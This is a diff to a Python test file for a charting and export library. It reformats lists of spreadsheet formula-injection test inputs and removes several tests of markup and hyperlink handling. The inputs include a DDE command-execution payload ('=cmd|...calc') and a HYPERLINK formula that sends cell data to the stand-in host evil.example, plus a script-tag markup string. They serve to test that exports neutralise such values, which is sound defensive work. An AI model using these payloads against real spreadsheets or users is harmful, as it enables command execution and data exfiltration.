@@ -2,7 +2,6 @@
 
 import csv
 import io
-import json
 import math
 import re
 import xml.etree.ElementTree as ET
@@ -21,61 +20,25 @@ from PIL import Image
 
 from ilag_data.errors import ChartError, IlagError
 from ilag_data.language import Lang
-from ilag_data.ssb.metadata import Metadata
 from ilag_data.untrusted import spreadsheet_text, unseen, visible
 from ilag_report.charts import Chart, Column, Grid, Source, Table
 from ilag_report.charts.body import Figures
 from ilag_report.charts.contents import LONGEST_NAME
 from ilag_report.charts.export import render
-from ilag_report.charts.export_csv import csv_bytes
+from ilag_report.charts.workbook import csv_bytes
 from tests.chart_kinds import every_kind
 
 KINDS = list(every_kind("no"))
 FORMULAS = [
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?"&A1;"Tydal")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u00a0=1+1",
-    "＝1+1",
-    "-cmd|x!A0",
-    "+47;=1",
-    "Tydal;=1+1",
-    "Tydal,=1+1",
-    "Tydal\t=1+1",
-    "Tydal\r\n=1+1",
-    "Tydal; ＝1+1",
-    "Tydal;-cmd|x!A0",
-    "Tydal,+1+1,@SUM(A1)",
-    'Tydal;"=1+1"',
-    'Tydal,""=1+1',
-    'x";=1+1',
-    'x",=1+1;"',
-]
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1;"Tydal")', "=1+1", "+1+1", "-1+1",
+    "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "-cmd|x!A0", "+47;=1",
+    "Tydal;=1+1", "Tydal,=1+1", "Tydal\t=1+1", "Tydal\r\n=1+1", "Tydal; ＝1+1", "Tydal;-cmd|x!A0",
+    "Tydal,+1+1,@SUM(A1)", 'Tydal;"=1+1"', 'Tydal,""=1+1', 'x";=1+1', 'x",=1+1;"',
+]  # fmt: skip
 PLAIN = [
-    "-10",
-    "−10",
-    "+2,5 %",
-    "-",
-    "..",
-    "- 1 000",
-    "0–5 år",
-    "Snåase - Snåsa",
-    "a=b",
-    "https://ssb.no",
-    "'x",
-    "indeks, 2015 = 100",
-    "Tydal, netto -45",
-    "kr 100,-",
-    "Tydal; Leka,\tRøst",
-    "0;-10",
-]
+    "-10", "−10", "+2,5 %", "-", "..", "- 1 000", "0–5 år", "Snåase - Snåsa", "a=b", "https://ssb.no",
+    "'x", "indeks, 2015 = 100", "Tydal, netto -45", "kr 100,-", "Tydal; Leka,\tRøst", "0;-10",
+]  # fmt: skip
 
 # A cell that is calculated. A signed number is not, also where the rest of the line, split elsewhere, follows it.
 CALCULATED = re.compile(r'\s*([=@＝＠]|[+\-＋－](?![\d\s.,]*%?([;,\t"]|$)))')
@@ -186,13 +149,6 @@ def test_workbooks_hold_texts_as_texts_and_numbers_as_numbers(kind: str, text: s
         assert not [part for part in root.iter() if part.tag.endswith("}hlinkClick")], name
 
 
-def test_addresses_in_labels_do_not_become_links_in_workbooks() -> None:
-    for kind in ("table", "bars", "lines"):
-        for content in render(labelled(every_kind("no")[kind], "http://e.no"), ["xlsx", "pptx"]).values():
-            for workbook in workbooks(content):
-                assert not [name for name, root in xml_parts(workbook) if b"hyperlink" in ET.tostring(root)]
-
-
 # ---- HTML and XML -----------------------------------------------------------------------------------------
 
 MARKUP = """<script>alert("1")</script> & <b>' ]]> &lt; <!--"""
@@ -238,41 +194,6 @@ def test_markup_in_any_text_of_a_chart_is_text_in_every_output() -> None:
     assert texts.count(MARKUP) >= 6
     sheets = openpyxl.load_workbook(io.BytesIO(contents["xlsx"])).worksheets
     assert [str(cell.value) for sheet in sheets for row in sheet for cell in row].count(MARKUP) >= 6
-
-
-def test_the_card_of_a_table_shows_markup_as_text() -> None:
-    table = {
-        "class": "dataset",
-        "label": MARKUP,
-        "source": MARKUP,
-        "updated": MARKUP,
-        "note": [MARKUP],
-        "id": [MARKUP, "Tid"],
-        "size": [1, 1],
-        "role": {"time": ["Tid"]},
-        "dimension": {
-            MARKUP: {
-                "label": MARKUP,
-                "category": {"index": [MARKUP], "label": {MARKUP: MARKUP + "x"}},
-            },
-            "Tid": {"category": {"index": [MARKUP]}},
-        },
-        "extension": {"px": {"tableid": MARKUP}},
-    }
-    card = Tags(Metadata.read("07459", json.dumps(table).encode())._repr_html_())
-    assert not {"script", "b"} & {tag for tag, _ in card.tags}
-    assert not [name for _, attributes in card.tags for name in attributes if name.startswith("on")]
-    assert card.text.count(MARKUP) >= 7
-
-
-def test_frames_show_markup_as_text() -> None:
-    shown = Tags(pd.DataFrame({MARKUP: [MARKUP]})._repr_html_())  # type: ignore[operator]
-    assert not {"script", "b"} & {tag for tag, _ in shown.tags}
-
-
-def test_a_dollar_sign_is_no_formula_of_tex() -> None:
-    svg = render(listing("$x^2$ og $"), ["svg"])["svg"].decode()
-    assert "$x^2$ og $" in svg
 
 
 # ---- Characters that nobody sees --------------------------------------------------------------------------
